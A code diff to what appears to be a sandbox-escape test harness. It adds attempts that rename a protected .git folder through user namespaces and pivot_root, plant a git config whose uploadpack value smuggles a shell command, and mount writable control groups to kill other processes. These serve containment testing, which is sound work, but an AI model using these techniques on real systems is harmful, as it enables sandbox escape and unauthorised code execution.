@@ -13,6 +13,7 @@ import signal
 import socket
 import subprocess
 from collections.abc import Callable
+from contextlib import suppress
 from functools import partial
 from pathlib import Path
 
@@ -20,7 +21,7 @@ TARGETS: dict[str, str] = json.loads(os.environ.get("HOSTILE_TARGETS", "{}"))
 HOME = Path(os.environ.get("HOME", "/"))
 _LIBC = ctypes.CDLL(None, use_errno=True)
 _PTRACE_ATTACH, _PTRACE_DETACH = 16, 17
-_CLONE_NEWUSER, _CLONE_NEWNS, _MNT_DETACH = 0x10000000, 0x20000, 2
+_CLONE_NEWUSER, _CLONE_NEWNS, _CLONE_NEWCGROUP, _MNT_DETACH = 0x10000000, 0x20000, 0x02000000, 2
 
 ATTEMPTS: dict[str, Callable[[], object]] = {}
 Attempt = Callable[[], object]
@@ -146,6 +147,49 @@ def run_program_by_nested_repository() -> str:
     return "staged"
 
 
+def swap_git_folder() -> None:
+    """Put a folder in the place of `.git`. Where that is a mount point, in a namespace that doesn't have the mount."""
+    top = os.open(".", os.O_RDONLY)
+    with suppress(OSError):
+        Path(".git").rename(".git-real")
+        return
+    uid, gid = os.getuid(), os.getgid()
+    pid = os.fork()
+    if pid == 0:
+        with suppress(OSError):
+            _LIBC.unshare(_CLONE_NEWUSER | _CLONE_NEWNS)
+            Path("/proc/self/setgroups").write_text("deny")
+            Path("/proc/self/uid_map").write_text(f"{uid} {uid} 1")
+            Path("/proc/self/gid_map").write_text(f"{gid} {gid} 1")
+            _LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, None)
+            Path("/tmp/old").mkdir()
+            _LIBC.syscall({"x86_64": 155}.get(os.uname().machine, 41), b"/tmp", b"/tmp/old")  # pivot_root
+            os.chdir("/")
+            _LIBC.umount2(b"/old", _MNT_DETACH)
+            os.rename(".git", ".git-real", src_dir_fd=top, dst_dir_fd=top)
+        os._exit(0)
+    os.waitpid(pid, 0)
+    os.close(top)
+
+
+def run_program_by_other_git_folder() -> str:
+    """One whose HEAD is to be fetched by a program that its settings name. The last attempt: there is no git afterwards."""
+    swap_git_folder()
+    run("git", "init", "-q", "--bare", ".git")
+    settings = {
+        "core.bare": "false",
+        "core.repositoryFormatVersion": "1",
+        "extensions.partialClone": "hostile",
+        "remote.hostile.url": ".",
+        "remote.hostile.promisor": "true",
+        "remote.hostile.uploadpack": f"touch {TARGETS['proof_git']};",
+    }
+    for name, value in settings.items():
+        run("git", "config", "-f", ".git/config", name, value)
+    Path(".git/HEAD").write_text(f"{'1' * 40}\n")
+    return "made"
+
+
 @attempt
 def see_other_processes() -> str:
     return Path(f"/proc/{TARGETS['victim']}/cmdline").read_text()
@@ -198,6 +242,19 @@ def unmount_the_home_folder() -> str:
     if status:
         raise PermissionError("umount")
     return "seen"
+
+
+@attempt
+def mount_the_control_groups() -> str:
+    """Writable: with them, all processes of another attempt can be killed at once."""
+    pid = os.fork()
+    if pid == 0:
+        _LIBC.unshare(_CLONE_NEWUSER | _CLONE_NEWNS | _CLONE_NEWCGROUP)
+        os._exit(1 if _LIBC.mount(b"none", b"/sys", b"cgroup2", 0, None) else 0)
+    _, status = os.waitpid(pid, 0)
+    if status:
+        raise PermissionError("mount")
+    return "mounted"
 
 
 @attempt
@@ -313,6 +370,9 @@ def take_much_memory() -> str:
     if status:
         raise MemoryError
     return "taken"
+
+
+attempt(run_program_by_other_git_folder)
 
 
 def main() -> None:
